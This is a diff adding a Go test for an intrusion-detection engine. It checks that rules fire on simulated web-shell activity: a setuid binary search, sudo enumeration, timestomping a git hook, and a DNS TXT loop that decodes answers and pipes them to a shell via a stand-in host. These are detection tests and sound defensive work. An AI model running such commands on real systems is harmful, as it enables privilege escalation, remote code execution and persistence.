@@ -1,0 +1,66 @@
+package detect
+
+import (
+	"slices"
+	"testing"
+
+	"github.com/auditchain/auditchain/parser"
+)
+
+// TestPrivescSearchTimestompDNSTasksHooks: the families the held-out
+// nginx-lfi capture showed missing (added after it was scored), run by the
+// web account in a web shell (pid 201 under the php-fpm worker 200).
+func TestPrivescSearchTimestompDNSTasksHooks(t *testing.T) {
+	for _, c := range []struct {
+		name  string
+		exe   string
+		args  []string
+		rule  string
+		stage Stage
+	}{
+		{"setuid search", "/usr/bin/find", []string{"find", "/usr/", "-perm", "-4000", "-type", "f"}, "privilege-search-web", StageSuspiciousSpawn},
+		{"sudo rights", "/usr/bin/sudo", []string{"sudo", "-n", "-l"}, "privilege-search-web", StageSuspiciousSpawn},
+		{"sudo rules read", "/usr/bin/cat", []string{"cat", "/etc/sudoers.d/alice"}, "privilege-search-web", 0}, // placed by the merged act's primary rule
+		{"timestomp", "/usr/bin/touch", []string{"touch", "-r", "/srv/git/site/.git/hooks/pre-commit.sample", "/srv/git/site/.git/hooks/post-merge"}, "timestomp-web", StageExfiltrationImpact},
+		{"DNS answers fed to a shell", "/usr/bin/dash", []string{"sh", "-c", "while :; do dig +short TXT 1.h.upd.example.lab | tr -d '\"' | base64 -d | sh; sleep 3; done"}, "web-server-exploitation", StageSuspiciousSpawn}, // a channel started by the web server's shell, as a reverse shell is
+		{"a git hook written", "/usr/bin/dash", []string{"sh", "-c", "echo ZWNobwo= | base64 -d > /srv/git/site/.git/hooks/post-merge"}, "web-server-exploitation", StagePersistence},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			e, err := New(Options{})
+			if err != nil {
+				t.Fatal(err)
+			}
+			s := newSynth()
+			s.exec(200, 1, 33, "www-data", "/var/www", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
+			ppid := 200
+			if c.exe != "/usr/bin/dash" {
+				s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "x")
+				ppid = 201
+			}
+			var got *Finding
+			for _, f := range e.Observe(s.exec(202, ppid, 33, "www-data", "/var/www", c.exe, c.args...), s.tree) {
+				if slices.Contains(f.RuleIDs, c.rule) {
+					got = f
+				}
+			}
+			if got == nil {
+				t.Fatalf("%s did not fire", c.rule)
+			}
+			if c.stage != 0 && got.Stage != c.stage {
+				t.Errorf("stage %v, want %v (%s)", got.Stage, c.stage, got.Reason)
+			}
+		})
+	}
+	// the hook's file written by the web account is persistence
+	e, _ := New(Options{})
+	s := newSynth()
+	s.exec(200, 1, 33, "www-data", "/var/www", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
+	s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "x")
+	var ids []string
+	for _, f := range e.Observe(s.file(parser.KindFileWrite, 201, 200, 33, "/usr/bin/dash", "/srv/git/site/.git/hooks/post-merge", true), s.tree) {
+		ids = append(ids, f.RuleIDs...)
+	}
+	if !slices.Contains(ids, "web-persistence-file-write") {
+		t.Errorf("a git hook written: rules %v, want web-persistence-file-write", ids)
+	}
+}
